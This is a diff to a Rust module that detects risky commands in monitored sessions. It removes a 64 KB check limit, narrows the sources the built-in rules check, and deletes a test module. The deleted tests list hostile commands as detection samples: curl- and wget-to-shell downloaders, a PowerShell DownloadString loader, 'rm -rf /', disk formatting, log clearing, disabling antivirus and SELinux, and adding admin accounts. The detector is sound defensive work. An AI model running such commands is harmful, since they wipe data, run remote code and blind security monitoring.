@@ -26,8 +26,9 @@
 //! ```
 //!
 //! Patterns are regular expressions (the `regex` crate: linear time in the text, no
-//! backtracking), bounded in length and compiled size; the text checked is bounded by the caller
-//! and again here ([`MAX_CHECKED`]).
+//! backtracking), bounded in length and compiled size; the whole text is checked (a command
+//! after padding is found), and its size is bounded by the caller (a typed line by the line
+//! editor, pasted text by the policy's clipboard limit, the screen by what OCR reads).
 
 use std::fmt;
 use std::sync::Arc;
@@ -35,15 +36,12 @@ use std::sync::Arc;
 use serde::{Deserialize, Serialize};
 
 use crate::error::{PolicyError, Problem};
-use crate::policy::TargetPattern;
-use crate::TargetRef;
+use crate::target::{parse_target, TargetPattern};
 
 /// The most risk rules a document may have (built-ins included).
 pub const MAX_RISK_RULES: usize = 64;
 /// The longest pattern, in bytes.
 pub const MAX_PATTERN_LEN: usize = 1024;
-/// The most of a text that is checked, in bytes (the start of a longer one).
-pub const MAX_CHECKED: usize = 64 * 1024;
 /// The longest excerpt of a match kept with a hit, in characters.
 pub const MAX_EXCERPT: usize = 200;
 /// A compiled pattern's size limit (the regex crate's), in bytes.
@@ -178,8 +176,9 @@ impl RiskRuleDoc {
     }
 }
 
-/// The built-in rules: name, description, pattern, score. Each is checked against every source,
-/// on any target, and alerts.
+/// The built-in rules: name, description, pattern, score. Each is checked against typed and
+/// pasted text (the screen shows documentation and logs that mention such commands: a document
+/// adds `screen` where that is wanted), on any target, and alerts.
 const BUILTIN: &[(&str, &str, &str, u32)] = &[
     (
         "account_creation",
@@ -221,7 +220,7 @@ pub fn builtin() -> Vec<RiskRuleDoc> {
             name: (*name).to_owned(),
             description: Some((*description).to_owned()),
             pattern: Some((*pattern).to_owned()),
-            on: Some(TextSource::all()),
+            on: Some(vec![TextSource::Typed, TextSource::Clipboard]),
             score: Some(*score),
             action: Some(RiskAction::Alert),
             targets: Some(vec!["*".to_owned()]),
@@ -263,8 +262,8 @@ impl RiskRule {
         self.action
     }
 
-    fn applies_to<L: AsRef<str>>(&self, target: &TargetRef<'_, L>) -> bool {
-        self.targets.iter().any(|p| p.matches(target))
+    fn applies_to<L: AsRef<str>>(&self, name: &str, labels: &[L]) -> bool {
+        self.targets.iter().any(|p| p.matches(name, labels))
     }
 }
 
@@ -322,10 +321,8 @@ impl RiskSet {
         self.rules.iter().any(|r| r.on.contains(&source))
     }
 
-    /// The rules that fire on `text` from `source` (only the first [`MAX_CHECKED`] bytes are
-    /// looked at), most severe action first.
+    /// The rules that fire on `text` from `source`, most severe action first.
     pub fn check(&self, source: TextSource, text: &str) -> Vec<RiskHit> {
-        let text = head(text, MAX_CHECKED);
         let mut hits: Vec<RiskHit> = self
             .rules
             .iter()
@@ -345,18 +342,6 @@ impl RiskSet {
         hits.sort_by_key(|h| std::cmp::Reverse(h.action));
         hits
     }
-}
-
-/// The first `max` bytes of `text`, cut at a character boundary.
-fn head(text: &str, max: usize) -> &str {
-    if text.len() <= max {
-        return text;
-    }
-    let mut end = max;
-    while !text.is_char_boundary(end) {
-        end -= 1;
-    }
-    &text[..end]
 }
 
 /// A rule's name: 1 to 64 of letters, digits, `_` and `-`.
@@ -482,7 +467,7 @@ fn compile_one(doc: &RiskRuleDoc) -> Result<RiskRule, (&'static str, Problem)> {
     }
     let mut targets = Vec::with_capacity(target_strings.len());
     for t in &target_strings {
-        targets.push(crate::policy::parse_target(t).map_err(|p| ("targets", p))?);
+        targets.push(parse_target(t).map_err(|p| ("targets", p))?);
     }
     Ok(RiskRule {
         name: doc.name.as_str().into(),
@@ -505,223 +490,17 @@ fn first_line(message: &str) -> String {
     line.trim().chars().take(300).collect()
 }
 
-/// The rules of `all` that apply to `target`.
+/// The rules of `all` that apply to the target called `name` with `labels`.
 pub(crate) fn for_target<L: AsRef<str>>(
     all: &[Arc<RiskRule>],
-    target: &TargetRef<'_, L>,
+    name: &str,
+    labels: &[L],
 ) -> RiskSet {
     RiskSet {
         rules: all
             .iter()
-            .filter(|r| r.applies_to(target))
+            .filter(|r| r.applies_to(name, labels))
             .cloned()
             .collect(),
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    #![allow(clippy::unwrap_used)]
-
-    use super::*;
-    use crate::{Policy, PolicyDoc};
-
-    fn set(docs: Vec<RiskRuleDoc>, labels: &[&str]) -> RiskSet {
-        let mut doc = PolicyDoc::default_policy();
-        doc.risk = docs;
-        let policy = Policy::compile(&doc).unwrap();
-        policy.risk_for(&TargetRef {
-            name: "web01",
-            labels,
-        })
-    }
-
-    fn fired(set: &RiskSet, source: TextSource, text: &str) -> Vec<String> {
-        set.check(source, text)
-            .into_iter()
-            .map(|h| h.rule)
-            .collect()
-    }
-
-    #[test]
-    fn builtins_catch_the_classics_and_leave_everyday_commands_alone() {
-        let s = set(Vec::new(), &[]);
-        let typed = |t| fired(&s, TextSource::Typed, t);
-        for (text, rule) in [
-            ("net user eve S3cret! /add", "account_creation"),
-            ("net localgroup administrators eve /add", "account_creation"),
-            ("sudo useradd -m eve", "account_creation"),
-            ("New-LocalUser -Name eve", "account_creation"),
-            ("wevtutil cl Security", "log_clearing"),
-            ("history -c", "log_clearing"),
-            ("sudo rm -rf /var/log/audit", "log_clearing"),
-            (
-                "Set-MpPreference -DisableRealtimeMonitoring $true",
-                "defence_disabling",
-            ),
-            ("sudo setenforce 0", "defence_disabling"),
-            ("systemctl stop auditd", "defence_disabling"),
-            (
-                "curl -fsSL https://x.example/i.sh | sudo bash",
-                "download_and_run",
-            ),
-            ("wget -qO- http://x/y|sh", "download_and_run"),
-            (
-                "iex (New-Object Net.WebClient).DownloadString('http://x')",
-                "download_and_run",
-            ),
-            ("rm -rf /", "mass_deletion"),
-            ("sudo rm -fr --no-preserve-root /", "mass_deletion"),
-            ("rm -rf ~", "mass_deletion"),
-            ("format D:", "mass_deletion"),
-            ("mkfs.ext4 /dev/sdb1", "mass_deletion"),
-        ] {
-            assert_eq!(typed(text), vec![rule.to_owned()], "{text}");
-        }
-        for text in [
-            "ls -la /var/log",
-            "net user eve",
-            "rm -rf /tmp/build",
-            "rm -rf ./target",
-            "curl https://example.com -o page.html",
-            "tail -f /var/log/syslog",
-            "history | grep ssh",
-            "systemctl status auditd",
-            "git log --format=oneline",
-        ] {
-            assert!(typed(text).is_empty(), "{text}: {:?}", typed(text));
-        }
-    }
-
-    #[test]
-    fn a_document_tunes_disables_and_adds_rules() {
-        let mut freeze = RiskRuleDoc::named("account_creation");
-        freeze.action = Some(RiskAction::Freeze);
-        freeze.score = Some(90);
-        let mut off = RiskRuleDoc::named("log_clearing");
-        off.enabled = false;
-        let mut own = RiskRuleDoc::named("prod_dump");
-        own.pattern = Some(r"(?i)\bpg_dumpall\b".into());
-        own.on = Some(vec![TextSource::Typed]);
-        own.action = Some(RiskAction::Kill);
-        own.targets = Some(vec!["label:prod".into()]);
-        let docs = vec![freeze, off, own];
-
-        let s = set(docs.clone(), &["prod"]);
-        let hits = s.check(
-            TextSource::Typed,
-            "net user eve x /add && PG_DUMPALL > all.sql",
-        );
-        assert_eq!(
-            hits.iter()
-                .map(|h| (h.rule.as_str(), h.action, h.score))
-                .collect::<Vec<_>>(),
-            vec![
-                ("prod_dump", RiskAction::Kill, 20),
-                ("account_creation", RiskAction::Freeze, 90),
-            ],
-            "most severe first"
-        );
-        assert_eq!(hits[0].excerpt, "PG_DUMPALL");
-        assert!(fired(&s, TextSource::Typed, "wevtutil cl System").is_empty());
-        // Typed only, and on production only.
-        assert!(fired(&s, TextSource::Screen, "pg_dumpall").is_empty());
-        assert!(fired(&set(docs, &["dev"]), TextSource::Typed, "pg_dumpall").is_empty());
-    }
-
-    #[test]
-    fn bad_rules_are_refused_with_their_name_and_field() {
-        let problem = |doc: RiskRuleDoc| {
-            let mut policy = PolicyDoc::default_policy();
-            policy.risk = vec![doc];
-            Policy::compile(&policy).unwrap_err().to_string()
-        };
-        let mut bad = RiskRuleDoc::named("mine");
-        assert_eq!(
-            problem(bad.clone()),
-            "risk rule \"mine\": pattern: a rule of its own needs a pattern"
-        );
-        bad.pattern = Some("(unclosed".into());
-        assert!(
-            problem(bad.clone())
-                .starts_with("risk rule \"mine\": pattern: not a valid regular expression"),
-            "{}",
-            problem(bad.clone())
-        );
-        bad.pattern = Some("a{1000}{1000}".into());
-        assert!(problem(bad.clone()).contains("pattern: not a valid regular expression"));
-        bad.pattern = Some("x".repeat(MAX_PATTERN_LEN + 1));
-        assert!(problem(bad.clone()).contains("pattern: must be from 1 to 1024"));
-        bad.pattern = Some("x".into());
-        bad.score = Some(101);
-        assert!(problem(bad.clone()).contains("score: must be from 0 to 100"));
-        bad.score = None;
-        bad.on = Some(Vec::new());
-        assert!(problem(bad.clone()).contains("on: empty"));
-        bad.on = None;
-        bad.targets = Some(vec!["prod".into()]);
-        assert!(problem(bad.clone()).contains("targets: \"prod\" has no prefix"));
-        bad.targets = None;
-        bad.name = "has space".into();
-        assert!(problem(bad.clone()).contains("letters, digits"));
-        let mut policy = PolicyDoc::default_policy();
-        policy.risk = vec![
-            RiskRuleDoc::named("log_clearing"),
-            RiskRuleDoc::named("log_clearing"),
-        ];
-        assert!(Policy::compile(&policy)
-            .unwrap_err()
-            .to_string()
-            .contains("name: already used"));
-    }
-
-    #[test]
-    fn checked_text_is_bounded_and_excerpts_are_short() {
-        let s = set(Vec::new(), &[]);
-        let mut long = "é".repeat(MAX_CHECKED); // two bytes each: cut inside a character
-        long.push_str(" rm -rf /");
-        assert!(
-            s.check(TextSource::Screen, &long).is_empty(),
-            "past the checked head"
-        );
-        let mut own = RiskRuleDoc::named("long");
-        own.pattern = Some("a+".into());
-        let s = set(vec![own], &[]);
-        assert_eq!(
-            s.check(TextSource::Clipboard, &"a".repeat(5000))[0]
-                .excerpt
-                .chars()
-                .count(),
-            MAX_EXCERPT
-        );
-    }
-
-    #[test]
-    fn documents_round_trip_through_toml() {
-        let text = r#"
-            [[rules]]
-            name = "all"
-            subjects = ["*"]
-            targets = ["*"]
-
-            [[risk]]
-            name = "account_creation"
-            action = "freeze"
-
-            [[risk]]
-            name = "mine"
-            pattern = '(?i)\bshutdown\b'
-            on = ["typed", "screen"]
-        "#;
-        let doc: PolicyDoc = toml::from_str(text).unwrap();
-        assert_eq!(doc.risk[0].action, Some(RiskAction::Freeze));
-        let policy = Policy::compile(&doc).unwrap();
-        let s = policy.risk_for(&TargetRef {
-            name: "x",
-            labels: &[] as &[&str],
-        });
-        assert_eq!(s.rules().count(), BUILTIN.len() + 1);
-        let again: PolicyDoc = toml::from_str(&toml::to_string(&doc).unwrap()).unwrap();
-        assert_eq!(again, doc);
     }
 }
